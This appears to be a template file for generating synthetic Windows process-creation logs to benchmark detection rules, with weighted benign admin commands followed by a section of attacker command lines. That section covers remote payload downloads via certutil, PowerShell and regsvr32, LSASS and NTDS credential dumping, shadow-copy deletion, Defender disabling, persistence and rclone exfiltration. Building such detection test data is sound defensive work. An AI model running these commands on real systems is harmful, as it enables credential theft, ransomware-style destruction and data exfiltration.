8 powershell explorer a "<path>" -Command "Get-Service | Where-Object Status -eq 'Running' | Sort-Object <src>"
6 powershell explorer a "<path>" -Command "Get-ADUser -Identity <user> -Properties MemberOf | Select-Object -ExpandProperty MemberOf"
6 pwsh code u "<path>" -NoProfile -NoExit -Command ". 'C:\src\<project>\tools\<src>.ps1'"
5 reg cmd u reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v ProductName
3 schtasks agent s schtasks /query /fo CSV /v
6 sc agent s sc query <pick:Spooler,wuauserv,BITS,MSSQLSERVER>
3 net cmd u net use
3 netsh cmd u netsh interface show interface
6 tasklist cmd u tasklist /fi "imagename eq <pick:node,java,python>.exe" /fo csv
5 taskkill cmd u taskkill /pid <n:1000-30000> /T /F
4 ipconfig cmd u ipconfig
4 netstat agent s netstat -ano
8 ping cmd u ping -n <n:1-5> <ip>
18 findstr cmd u findstr /i /c:"<src>" build.log
4 robocopy backup s robocopy C:\src\<project> \\files.corp.example\backup$\<project> /MIR /R:1 /W:1 /NP /LOG:C:\ProgramData\backup\<project>.log
4 xcopy cmd u xcopy /y /q x64\Release\*.dll dist\
3 gpupdate cmd u gpupdate /target:user
3 mmc explorer a "<path>" "C:\Windows\system32\<pick:services,eventvwr,compmgmt,dsa>.msc"
5 notepad explorer u "<path>" C:\Users\<user>\Documents\<src>.txt
3 agent services s "<path>" --config "C:\Program Files\Example Monitoring\agent.yml"
3 backup services s "<path>" --incremental --job <guid>
2 ccmexec services s <path>
2 sqlservr services n "<path>" -sMSSQLSERVER
4 w3wp svchost n <path> -ap "<pick:DefaultAppPool,intranet>" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm<guid> -h "C:\inetpub\temp\apppools\<pick:DefaultAppPool,intranet>.config" -w "" -m 0
2 userinit wininit u <path>
2 searchindexer services s <path> /Embedding
1 psexesvc services s <path>

# What rules look for
! whoami cmd a whoami /all
! whoami powershell s "<path>" /priv
! whoami w3wp n whoami
! cmd w3wp n "<path>" /c "whoami & ipconfig /all & net user"
! cmd winword u <path> /c start /min powershell -w hidden -c "Start-Sleep <n:1-9>"
! cmd sqlservr n "<path>" /c "certutil -urlcache -split -f http://<ip>/<hex:4>.exe C:\Windows\Temp\<hex:4>.exe"
! certutil cmd a certutil -urlcache -split -f http://<ip>:<n:8000-9000>/<hex:6>.txt C:\Users\Public\<hex:6>.exe
! certutil cmd a certutil.exe -decode C:\Users\Public\<hex:6>.b64 C:\Users\Public\<hex:6>.dll
! powershell cmd a powershell.exe -nop -w hidden -enc <b64:Write-Output 'benchmark of rules' >
! powershell excel u powershell -ExecutionPolicy Bypass -NoP -W Hidden -C "IEX (New-Object Net.WebClient).DownloadString('http://<ip>/<hex:6>.ps1')"
! powershell mshta u "<path>" -ep bypass -c "Invoke-WebRequest -Uri http://<ip>/<hex:5>.zip -OutFile $env:TEMP\<hex:5>.zip"
! powershell cmd a powershell Set-MpPreference -DisableRealtimeMonitoring $true
! powershell cmd a powershell -c "Add-MpPreference -ExclusionPath C:\Users\Public"
! powershell wmiprvse s powershell.exe -NoP -sta -NonI -W Hidden -Command "Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }"
! rundll32 cmd u rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://<ip>/<hex:4>.sct")
! rundll32 cmd a rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump <n:500-900> C:\Users\Public\<hex:5>.dmp full
! rundll32 explorer u "<path>" C:\Users\<user>\AppData\Local\Temp\<hex:6>.dll,DllRegisterServer
! regsvr32 cmd u regsvr32.exe /s /n /u /i:http://<ip>/<hex:4>.sct scrobj.dll
! mshta explorer u "<path>" http://<ip>/<hex:6>.hta
! mshta outlook u mshta.exe vbscript:Close(Execute("GetObject(""script:http://<ip>/<hex:4>.sct"")"))
! wscript explorer u "<path>" "C:\Users\<user>\Downloads\invoice_<n:1000-9999>.js"
! cscript cmd u cscript //nologo C:\Users\Public\<hex:6>.vbs <ip>
! vssadmin cmd a vssadmin.exe Delete Shadows /All /Quiet
! vssadmin cmd a vssadmin create shadow /for=C:
! wbadmin cmd a wbadmin delete catalog -quiet
! bcdedit cmd a bcdedit /set {default} recoveryenabled No
! wevtutil cmd a wevtutil cl Security
! fsutil cmd a fsutil usn deletejournal /D C:
! wmic cmd a wmic /node:<computer> process call create "cmd /c C:\Users\Public\<hex:5>.bat"
! wmic cmd a wmic shadowcopy delete
! wmic cmd u wmic.exe /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName,productState
! schtasks cmd a schtasks /create /sc minute /mo <n:5-30> /tn "Updater<hex:4>" /tr "powershell -w hidden -f C:\Users\Public\<hex:5>.ps1" /ru SYSTEM /f
! schtasks cmd a schtasks.exe /Create /S <computer> /TN <hex:6> /TR "C:\Windows\Temp\<hex:5>.exe" /SC ONCE /ST 23:5<n:0-9>
! reg cmd a reg save HKLM\SAM C:\Users\Public\<hex:4>.save
! reg cmd a reg.exe save hklm\security C:\Windows\Temp\<hex:4>.hiv
! reg cmd u reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v <hex:6> /t REG_SZ /d "C:\Users\Public\<hex:6>.exe" /f
! reg cmd a reg add "HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest" /v UseLogonCredential /t REG_DWORD /d 1 /f
! sc cmd a sc \\<computer> create <hex:6> binPath= "cmd /c C:\Windows\Temp\<hex:5>.exe" start= auto
! sc cmd a sc stop WinDefend
! net cmd a net user <hex:6> P@ss<n:1000-9999> /add
! net1 net a <path> localgroup administrators <hex:6> /add
! net cmd u net group "Domain Admins" /domain
! net cmd u net view /all /domain
! nltest cmd u nltest /dclist:corp.example
! nltest cmd u nltest /domain_trusts /all_trusts
! netsh cmd a netsh advfirewall set allprofiles state off
! netsh cmd a netsh interface portproxy add v4tov4 listenport=<n:1000-9999> listenaddress=0.0.0.0 connectport=3389 connectaddress=<ip>
! bitsadmin cmd u bitsadmin /transfer <hex:6> /download /priority high http://<ip>/<hex:6>.exe C:\Users\<user>\AppData\Local\Temp\<hex:6>.exe
! esentutl cmd a esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\Users\Public\<hex:4>.dit
! ntdsutil cmd a ntdsutil "ac i ntds" "ifm" "create full c:\Users\Public\<hex:4>" q q
! installutil cmd u "<path>" /logfile= /LogToConsole=false /U C:\Users\Public\<hex:5>.dll
! cmstp cmd u cmstp.exe /s /ns C:\Users\<user>\AppData\Local\Temp\<hex:5>.inf
! forfiles cmd u forfiles /p C:\Windows\System32 /m notepad.exe /c "cmd /c C:\Users\Public\<hex:5>.exe"
! systeminfo cmd u systeminfo
! procdump cmd a "<path>" -accepteula -ma lsass.exe C:\Users\Public\<hex:4>.dmp
! psexec cmd a "<path>" -accepteula \\<computer> -s cmd.exe
! cmd psexesvc s "cmd.exe"
! tool cmd a "<path>" "privilege::debug" "sekurlsa::logonpasswords" exit
! tool powershell a <path> kerberoast /outfile:C:\Users\Public\<hex:5>.txt /nowrap
! tool explorer u <path> -c All --zipfilename <hex:6>.zip --CollectionMethods Session,LoggedOn
! rclone cmd a "<path>" copy \\files.corp.example\share remote:<hex:6> --config C:\ProgramData\<hex:4>.conf --max-age 2y --transfers 16 --no-check-certificate
! findstr cmd u findstr /si password *.txt *.xml *.ini
! svchost explorer u C:\Users\<user>\AppData\Local\Temp\svchost.exe -k
